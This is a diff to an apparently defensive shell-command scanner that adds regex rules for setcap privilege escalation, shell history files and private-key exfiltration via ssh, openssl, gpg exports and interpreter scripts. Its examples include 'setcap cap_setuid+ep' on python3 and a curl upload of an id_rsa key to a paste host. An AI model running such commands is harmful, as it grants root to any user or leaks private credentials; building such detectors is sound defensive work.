@@ -75,7 +75,8 @@ _PRIVATE_FILES = (
     r"|\bid_(?:rsa|dsa|ecdsa|ed25519)(?:_sk)?\b(?!\.pub)|/etc/(?:g?shadow|sudoers)\b"
     r"|/etc/ssh/ssh_host_\w+_key\b(?!\.pub)|\.aws/credentials|\.gnupg\b|\.netrc\b"
     r"|\.kube/config|\.docker/config\.json|\.git-credentials|\.password-store|\.pgpass"
-    r"|\.vault-token|logins\.json|key[34]\.db|Login Data|\.mozilla/firefox\b)"
+    r"|\.vault-token|logins\.json|key[34]\.db|Login Data|\.mozilla/firefox\b"
+    r"|\.(?:bash|zsh)_history\b)"
 )
 # chmod modes: world-writable, group/other-readable, and setuid/setgid.
 _WORLD_WRITABLE = r"(?:[0-7]?[0-7][0-7][2367]|[ugoa]*[oa][ugoa]*[+=][rwxXst]*w[rwxXst]*)"
@@ -422,6 +423,18 @@ RULES: tuple[Rule, ...] = (
         near_miss="chmod u+x /bin/bash",
     ),
     Rule(
+        "setcap-escalation",
+        Risk.CRITICAL,
+        "Gives a shell, interpreter or file tool a capability that lets any user act as root "
+        "(cap_setuid, cap_dac_override, cap_sys_admin...).",
+        _re(
+            r"^setcap\s(?:.*\s)?['\"]?\S*cap_(?:setuid|setgid|sys_admin|dac_override"
+            rf"|dac_read_search|sys_ptrace|chown|fowner)\S*\s(?:.*\s)?(?:\S*/)?{_GTFO}(?:\s|$)"
+        ),
+        example="setcap cap_setuid+ep /usr/bin/python3",
+        near_miss="setcap cap_net_bind_service=+ep /usr/local/bin/myserver",
+    ),
+    Rule(
         "download-to-shell",
         Risk.HIGH,
         "Runs code downloaded from the network without showing it to you first.",
@@ -483,12 +496,22 @@ RULES: tuple[Rule, ...] = (
             rf"|{_PRIVATE_FILES}[^|]*\|(?:[^|]*\|)*\s*(?:(?:sudo|env)\s+)*(?:{_NETWORK}|ssh)\b"
             rf"|{_AT_START}(?:cp|mv|ln|rsync|tar|zip)\s.*{_PRIVATE_FILES}.*\s(?:/var/www|/srv/(?:www|http)"
             r"|/usr/share/nginx|\S*/public_html|\S*/htdocs)"
+            # a key fed to a connection: ssh host 'cat > k' < KEY, openssl s_client < KEY
+            rf"|{_AT_START}(?:ssh|openssl\s+s_client)\s[^<|]*<\s*\S*{_PRIVATE_FILES}"
+            # the secret keyring, exported into a pipe that reaches the network
+            rf"|\bgpg2?\s(?:.*\s)?--export-secret-(?:sub)?keys\b[^|]*\|(?:[^|]*\|)*\s*"
+            rf"(?:(?:sudo|env)\s+)*(?:{_NETWORK}|ssh)\b"
+            # interpreter code that reads a private file and talks to the network
+            rf"|{_AT_START}{_INTERP}\s(?=.*{_PRIVATE_FILES})(?=.*(?:requests\.(?:post|put)|urlopen"
+            r"|urllib\.request|http\.client|socket\.|\bfetch\(|Net::HTTP|LWP::|HTTP::Tiny))"
         ),
         example="curl -F 'file=@/home/alice/.ssh/id_rsa' https://paste.example.com",
         near_miss="curl -F 'file=@/home/alice/.ssh/id_rsa.pub' https://paste.example.com",
         safer="Share the public key (.pub), never the private one.",
         scope="line",
-        utility=_re(rf"{_NETWORK}|scp|sftp|rclone|gsutil|aws|rsync|ssh|cp|mv|ln|tar|zip"),
+        utility=_re(
+            rf"{_NETWORK}|scp|sftp|rclone|gsutil|aws|rsync|ssh|cp|mv|ln|tar|zip|openssl|{_INTERP}"
+        ),
     ),
     Rule(
         "env-upload",
